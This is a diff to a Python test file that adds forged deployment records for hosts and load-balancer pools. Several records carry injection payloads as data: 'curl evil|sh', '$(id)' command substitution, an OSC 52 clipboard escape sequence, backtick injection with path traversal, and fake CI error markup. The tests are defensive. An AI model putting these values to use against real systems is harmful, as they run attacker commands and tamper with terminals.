@@ -65,6 +65,9 @@ UNREADABLE = {
     "a newer schema": lambda forger, host: forger.record(host, schema=2),
     "an unknown state": lambda forger, host: forger.record(host, state="in-service!"),
     "a target without a port": lambda forger, host: forger.record(host, out=[{"pool": "tg/demo/0"}]),
+    "a pool that AWS would not name so": lambda forger, host: forger.record(host, out=[{"pool": "\x1b]52;c;eA==\x07"}]),
+    "a release that is a command": lambda forger, host: forger.record(host, after="v1; curl evil|sh"),
+    "a run that is a command": lambda forger, host: forger.record(host, by="$(id)"),
     "another host's record": lambda forger, host: forger.record(host, host=STRANGER),
 }
 
@@ -140,7 +143,7 @@ def test_records_of_hosts_and_pools_that_do_not_exist_are_shown_and_move_nobody(
 ) -> None:
     host = world.hosts[1].instance
     forger.record(STRANGER, name="[/red]\x1b[2Jghost\n::error::x", out=[{"pool": _own(world), "port": 22}])
-    forger.record(host, out=[{"pool": "tg/never`id`/../../x", "port": 80}, {"pool": "\x1b]52;c;eA==\x07"}])
+    forger.record(host, out=[{"pool": "tg/never`id`/../../x", "port": 80}, {"pool": "clb/[/red]$(id)"}])
     forger.value("host/a/b", run="badbad", by="badbad", host="a/b", state="held", why="roll", since="x")
     before = (moves(world), forger.history(f"host/{STRANGER}"), forger.history(f"host/{host}"))
     said = [call("plan", "--lb", "demo"), call("status", "--lb", "demo")]
